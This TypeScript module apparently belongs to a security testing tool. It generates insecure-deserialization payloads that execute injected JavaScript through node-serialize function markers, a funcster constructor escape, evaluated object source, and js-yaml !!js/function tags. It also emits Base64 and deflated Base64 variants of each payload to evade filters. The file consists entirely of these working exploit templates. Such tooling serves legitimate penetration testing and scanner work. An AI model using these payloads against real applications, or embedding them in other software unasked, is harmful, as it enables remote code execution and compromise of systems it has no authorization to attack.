import { deflateSync } from 'node:zlib';
import type { Form, Subject, Target } from '../subject.ts';
import { snippetsFor } from './code.ts';

const quoted = JSON.stringify;

/**
 * Returns attacks on libraries for JavaScript that turn texts into objects and run functions in the texts: in the syntax of
 * node-serialize and similar libraries, as source code, and as YAML with function tags, which run when the code converts the
 * result to a text. Source: the readers of node-serialize 0.0.4, funcster 0.0.3, serialize-to-js 1.2.2, js-yaml 3.14.1.
 */
export function objectForms(subject: Subject, target: Target): readonly Form[] {
  const { expressionFor } = snippetsFor(subject, target);
  const forms: readonly (readonly [string, (code: string) => string])[] = [
    [
      'as a function that node-serialize calls',
      (code) => `{"a":${quoted(`_$$ND_FUNC$$_function(){return ${code}}()`)}}`,
    ],
    [
      'as a function of funcster, out of its context',
      (code) =>
        `{"a":{"__js_function":${quoted(`(function(){return this.constructor.constructor(${quoted(`return ${code}`)})()})()`)}}}`,
    ],
    ['as source of an object', (code) => `{a:${code}}`],
    [
      'as source of an object, out of its names',
      (code) => `{a:(()=>{}).constructor(${quoted(`return ${code}`)})()}`,
    ],
    [
      'as functions of YAML that make its text',
      (code) => {
        const made = `!!js/function ${quoted(`function(){${code};return 'a'}`)}`;
        return `{toString: ${made}, toJSON: ${made}}`;
      },
    ],
    [
      'as a key of YAML whose text a function makes',
      (code) => `? {toString: !!js/function ${quoted(`function(){${code};return 'a'}`)}}\n: 1`,
    ],
  ];
  return forms.flatMap(([says, around]): readonly Form[] => [
    { says, text: (effect) => around(expressionFor(effect)) },
    {
      says: `${says}, in Base64`,
      text: (effect) => Buffer.from(around(expressionFor(effect))).toString('base64'),
    },
    {
      says: `${says}, deflated, in Base64`,
      text: (effect) => deflateSync(around(expressionFor(effect))).toString('base64'),
    },
  ]);
}
